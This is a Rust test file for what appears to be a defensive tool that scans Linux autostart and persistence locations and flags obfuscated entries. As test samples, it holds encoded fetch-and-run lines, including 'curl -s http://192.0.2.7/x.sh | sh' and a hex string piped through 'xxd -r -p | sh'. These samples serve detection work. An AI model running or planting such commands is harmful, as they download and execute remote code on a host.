//! A machine on which something stands in every place, as a tree of files.

use std::fmt::Write as _;
use std::path::Path;
use std::time::{Duration, Instant};

use firedamp::domain::facts::{
    Autostart, AutostartKind, Gap, NotWhole, Packaged, Persistence, Reading, Remark, Trick,
    decoded, tricks,
};
use firedamp::domain::untrusted::Untrusted;
use firedamp::host::probe::{Hunt, Roots};
use proptest::prelude::*;
use tempfile::tempdir;

use super::{hunted, write};

fn recorded() -> Persistence {
    hunted(&Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hosts/persistence-found"))
}

/// One line an entry: what can be told on every machine that this tree is checked out on.
fn told(entry: &Autostart) -> String {
    let mut line = format!("{} {}:{}", entry.kind.name(), entry.path.printable(), entry.line);
    let user = entry.user.as_ref().map(Untrusted::printable);
    write!(line, " [{}] {:?}", user.unwrap_or_default(), entry.text).unwrap();
    if let Some(runs) = &entry.runs {
        let there = match runs.exists {
            Reading::Known(true) => "there",
            Reading::Known(false) => "missing",
            Reading::Denied | Reading::Blocked | Reading::Unknown => "?",
        };
        write!(line, " -> {} ({there})", runs.program.printable()).unwrap();
    }
    if !entry.remarks.is_empty() {
        write!(line, " {:?}", entry.remarks).unwrap();
    }
    if !entry.tricks.is_empty() {
        write!(line, " TRICKS {:?}", entry.tricks).unwrap();
    }
    line
}

#[test]
fn every_kind_of_place_is_found_and_read() {
    let found = recorded();
    let lines: Vec<String> = found.entries.iter().map(|entry| told(entry)).collect();
    insta::assert_snapshot!(lines.join("\n"));
    for kind in AutostartKind::ALL {
        assert!(found.entries.iter().any(|entry| entry.kind == kind), "no {kind:?}");
    }
}

#[test]
fn a_hash_of_a_password_is_never_kept() {
    let found = recorded();
    let all: String = found.entries.iter().map(|entry| told(entry)).collect();
    assert!(!all.contains("notahash"));
}

#[test]
fn what_stands_in_base64_is_read() {
    let found = recorded();
    let packed = found.entries.iter().find(|it| it.tricks.contains(&Trick::Base64)).unwrap();
    let inside: Vec<String> =
        decoded(packed.text.bytes()).iter().map(Untrusted::printable).collect();
    assert_eq!(inside, ["curl -s http://192.0.2.7/x.sh | sh"]);
}

#[test]
fn a_link_out_of_a_home_is_told_and_not_followed() {
    let root = tempdir().unwrap();
    write(root.path(), "etc/passwd", "a:x:1000:1000::/home/a:/bin/sh\n");
    write(root.path(), "etc/secret", "outside\n");
    std::fs::create_dir_all(root.path().join("home/a")).unwrap();
    std::os::unix::fs::symlink("/etc/secret", root.path().join("home/a/.bashrc")).unwrap();
    let found = hunted(root.path());
    let link = found.entries.iter().find(|it| it.kind == AutostartKind::ShellStart).unwrap();
    assert_eq!(link.text.printable(), "-> /etc/secret");
    assert_eq!(link.remarks, [Remark::LeadsElsewhere]);
}

#[test]
fn a_crontab_of_comments_alone_is_an_entry_until_a_line_of_it_runs() {
    let root = tempdir().unwrap();
    write(root.path(), "etc/cron.d/.placeholder", "# Keep this.\n");
    write(root.path(), "etc/cron.d/x", "# SHELL=/bin/sh\n#* * * * * root /usr/bin/x\n");
    write(root.path(), "var/spool/cron/crontabs/malee", "PATH=/usr/bin:/bin\n\n");
    let found = hunted(root.path());
    let told = |it: &firedamp::domain::facts::Autostart| {
        (it.path.printable(), it.line, it.text.printable(), it.remarks.clone())
    };
    let nothing = |path: &str| (path.to_owned(), 0, String::new(), vec![Remark::NoLineRuns]);
    assert_eq!(
        found.entries.iter().map(|it| told(it)).collect::<Vec<_>>(),
        [nothing("/etc/cron.d/x"), nothing("/var/spool/cron/crontabs/malee")]
    );
    write(root.path(), "etc/cron.d/x", "# Now.\n* * * * * root /usr/bin/x\n");
    let later = hunted(root.path());
    assert_eq!((later.entries[0].line, later.entries[0].remarks.len()), (2, 0));
}

#[test]
fn a_line_that_hides_in_a_long_script_is_an_entry_of_its_own() {
    let root = tempdir().unwrap();
    let script = "#!/bin/sh\nset -e\n/usr/bin/true\necho 6375726c202d73206162632e6578616d706c65 | xxd -r -p | sh\n";
    write(root.path(), "etc/init.d/x", script);
    let found = hunted(root.path());
    let lines: Vec<(u32, usize)> =
        found.entries.iter().map(|entry| (entry.line, entry.tricks.len())).collect();
    assert_eq!(lines, [(0, 0), (4, 1)]);
    assert_eq!(
        found.entries[0].first_line().printable(),
        "/usr/bin/true",
        "the first line that runs something"
    );
}

#[test]
fn drop_ins_say_as_whom_a_unit_runs_the_last_name_last_and_the_strongest_folder_first() {
    let root = tempdir().unwrap();
    let unit = |path: &str, text: &str| write(root.path(), path, format!("[Service]\n{text}\n"));
    unit("etc/systemd/system/a-b.service", "User=first\nExecStart=/bin/x");
    unit("etc/systemd/system/a-b.service.d/10.conf", "User=second\nExecStart=/bin/y");
    unit("etc/systemd/system/a-.service.d/20.conf", "User=third");
    unit("usr/lib/systemd/system/a-b.service.d/30.conf", "User=weak");
    unit("run/systemd/system/a-b.service.d/30.conf", "User=strong");
    unit("etc/systemd/system/c.service", "User=first\nExecStart=/bin/x");
    unit("etc/systemd/system/c.service.d/a.conf", "User=");
    unit("etc/systemd/system/service.d/90.conf", "Restart=always");
    let found = hunted(root.path());
    let user = |path: &str| {
        let entry = found.entries.iter().find(|it| it.path.printable().ends_with(path)).unwrap();
        assert!(entry.remarks.contains(&Remark::RestartsAlways) == path.ends_with(".service"));
        entry.user.as_ref().map(Untrusted::printable)
    };
    assert_eq!(user("/a-b.service").as_deref(), Some("strong"));
    assert_eq!(user("a-b.service.d/10.conf").as_deref(), Some("strong"), "it starts a program");
    assert_eq!(user("/c.service"), None, "what was said is taken back");
}

#[test]
fn a_fifo_in_the_place_of_a_crontab_holds_nobody() {
    let root = tempdir().unwrap();
    let spool = root.path().join("var/spool/cron/crontabs");
    std::fs::create_dir_all(&spool).unwrap();
    let fifo = std::process::Command::new("mkfifo").arg(spool.join("mallory")).status().unwrap();
    assert!(fifo.success());
    write(root.path(), "var/spool/cron/crontabs/root", "@reboot /bin/x\n");
    let begun = Instant::now();
    let found = hunted(root.path());
    // It would wait for ever.
    assert!(begun.elapsed() < Duration::from_mins(1));
    assert_eq!(found.entries.len(), 1);
}

#[test]
fn a_crontab_of_many_thousand_lines_is_bounded_and_what_is_left_out_is_said() {
    let root = tempdir().unwrap();
    let line = "*/5 * * * * root /usr/bin/env A=b nice -n 10 /usr/local/bin/x --quiet\n";
    for file in ["a", "b"] {
        write(root.path(), &format!("etc/cron.d/{file}"), line.repeat(10_000));
    }
    let mut hunt = Hunt::new(&Roots::recorded(root.path()), Box::new(|_| Packaged::Unknown));
    let begun = Instant::now();
    hunt.everywhere();
    let took = begun.elapsed();
    eprintln!("20,000 lines: {took:?}");
    assert!(took < Duration::from_mins(1), "{took:?}");
    assert_eq!(hunt.found().entries.len(), 10_000);
    assert!(hunt.unread().any(|it| it.gap == Some(Gap::NotWhole(NotWhole::Entries))));
}

#[test]
fn a_file_that_a_package_brought_is_judged_by_its_path() {
    let root = tempdir().unwrap();
    write(root.path(), "etc/cron.d/own", "@daily root /usr/bin/own\n");
    write(root.path(), "usr/bin/own", "x");
    let judge = |path: &Path| match path.to_str() {
        Some("/etc/cron.d/own") => Packaged::Unchanged("own".into()),
        Some("/usr/bin/own") => Packaged::Changed("own".into()),
        _ => Packaged::No,
    };
    let mut hunt = Hunt::new(&Roots::recorded(root.path()), Box::new(judge));
    hunt.everywhere();
    let found = hunt.found();
    let entry = found.entries.iter().find(|it| it.kind == AutostartKind::Cron).unwrap();
    assert_eq!(entry.packaged, Packaged::Unchanged("own".into()));
    assert_eq!(entry.runs.as_ref().unwrap().packaged, Packaged::Changed("own".into()));
    assert!(!entry.is_as_packaged(), "what it runs is another one");
}

#[test]
fn entries_that_did_not_change_are_the_same_ones_after_another_hunt() {
    let root = tempdir().unwrap();
    write(root.path(), "etc/crontab", "@daily root /usr/bin/a\n@daily root /usr/bin/b\n");
    let mut hunt = Hunt::new(&Roots::recorded(root.path()), Box::new(|_| Packaged::Unknown));
    hunt.everywhere();
    let before = hunt.found();
    hunt.everywhere();
    let after = hunt.found();
    assert_eq!(before, after);
    for (one, other) in before.entries.iter().zip(&after.entries) {
        assert!(std::sync::Arc::ptr_eq(one, other));
    }
}

#[test]
fn plain_lines_play_no_tricks() {
    for line in [
        "0 5 * * * certbot renew --deploy-hook '/usr/bin/systemctl reload nginx'",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUpKeyMadeUpKeyMadeUpKeyMadeUpKeyMadeUpKe1 a@b.example",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  /usr/bin/x",
        "OLDIFS=$IFS; IFS=:",
        "/usr/lib/x86_64-linux-gnu/some/very/long/path/that/looks/like/base64",
        "a line of another system\r",
    ] {
        assert_eq!(tricks(line.as_bytes()), [], "{line}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_in_any_place_are_taken(
        bytes in prop::collection::vec(any::<u8>(), 0..300),
        place in prop::sample::select(vec![
            "etc/passwd", "etc/shadow", "etc/crontab", "var/spool/cron/crontabs/x", "etc/anacrontab",
            "etc/incron.d/x", "var/spool/at/x", "etc/systemd/system/x.service", "etc/rc.local",
            "etc/udev/rules.d/x.rules", "etc/profile", "etc/ssh/sshd_config", "root/.ssh/authorized_keys",
            "root/.bashrc", "etc/ld.so.preload", "etc/pam.d/x", "etc/modprobe.d/x.conf",
            "etc/apt/apt.conf.d/x", "etc/network/interfaces", "etc/gitconfig", "etc/sudoers",
            "usr/lib/python3/dist-packages/x.pth", "var/lib/docker/containers/x/hostconfig.json",
            "var/lib/docker/containers/x/config.v2.json", "etc/kubernetes/manifests/x.yaml",
            "var/lib/kubelet/config.yaml", "etc/docker/daemon.json", "etc/default/kubelet", "etc/ld.so.conf",
            "etc/logrotate.d/x", "etc/cloud/cloud.cfg", "etc/tmpfiles.d/x.conf", "etc/sysctl.conf",
            "etc/binfmt.d/x.conf", "usr/share/dbus-1/services/x.service", "etc/supervisord.conf",
            "etc/xinetd.d/x", "etc/inetd.conf", "etc/acpi/events/x", "root/.ssh/config", "root/.gitconfig",
            "usr/lib/python3/sitecustomize.py", "etc/xdg/autostart/x.desktop",
        ]),
    ) {
        let root = tempdir().unwrap();
        write(root.path(), "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
        write(root.path(), place, &bytes);
        hunted(root.path());
    }

    #[test]
    fn any_text_is_looked_behind(text in prop::collection::vec(any::<u8>(), 0..2_000)) {
        prop_assert!(tricks(&text).len() <= 6);
        prop_assert!(decoded(&text).len() <= 64);
    }

    #[test]
    fn whatever_is_packed_is_unpacked(words in "[a-z]{2,8} /[a-z/ ]{8,40}") {
        let mut packed = String::new();
        for byte in words.bytes() {
            write!(packed, "{byte:02x}").unwrap();
        }
        let line = format!("echo {packed} | xxd -r -p | sh");
        prop_assert!(tricks(line.as_bytes()).contains(&Trick::Hex));
        prop_assert!(decoded(line.as_bytes()).iter().any(|it| it.bytes() == words.as_bytes()));
    }
}

#[test]
fn looking_behind_a_long_text_takes_time_for_each_byte_once() {
    let text = "\\x41aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ ".repeat(30_000);
    let begun = Instant::now();
    assert!(!decoded(text.as_bytes()).is_empty());
    // Looking at each byte again from each other one would take hours.
    assert!(begun.elapsed() < Duration::from_mins(1), "{:?}", begun.elapsed());
}
